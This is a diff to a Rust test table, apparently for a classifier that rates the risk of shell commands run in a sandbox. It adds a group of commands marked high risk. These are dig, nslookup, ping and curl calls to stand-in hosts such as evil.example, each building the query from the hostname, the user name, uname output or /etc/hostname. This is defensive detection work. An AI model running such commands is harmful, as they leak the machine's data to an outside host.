@@ -73,6 +73,12 @@
 //!   (`programs/unknown_verbs.rs`); `terraform plan`, `aws s3 ls`, `borg list`, `ansible all
 //!   -m ping`, `make clean` stay in the sandbox.
 //!
+//! - `dig $(hostname).evil.example`, `nslookup $(whoami).x.example`, `curl
+//!   http://x.example/?d=$(cat /etc/hostname)` and `curl … ?h=$HOSTNAME` were medium (the
+//!   sandbox has no network): a looked-up name or a request built from a command's output or a
+//!   variable puts the machine's data in the query itself, and is high
+//!   (`programs/hostnames.rs`, `programs/transfer.rs`).
+//!
 //! Known limits: `find . | xargs rm -rf` and `rm -rf *` (the working directory unknown) stay
 //! high.
 
@@ -475,6 +481,20 @@ pub const KINDS: &[Kind] = &[
             (r##"mc rm --recursive --force local/bucket"##, High),
             (r##"s3cmd del s3://b/x"##, High),
             (r##"pm2 delete all"##, High),
+        ],
+    },
+    Kind {
+        name: "requests-built-from-the-machine's-data",
+        lines: &[
+            (r##"dig $(hostname).evil.example"##, High),
+            (r##"nslookup $(whoami).evil.example"##, High),
+            (r##"host $(cat /etc/hostname).x.example"##, High),
+            (r##"getent hosts $(id -un).x.example"##, High),
+            (r##"ping -c1 $(hostname).x.example"##, High),
+            (r##"curl http://x.example/?d=$(cat /etc/hostname)"##, High),
+            (r##"curl "http://$(whoami).x.example/""##, High),
+            (r##"curl -s http://x.example/?h=$HOSTNAME"##, High),
+            (r##"curl -H "X-Data: `uname -a`" http://x.example/"##, High),
         ],
     },
     Kind {
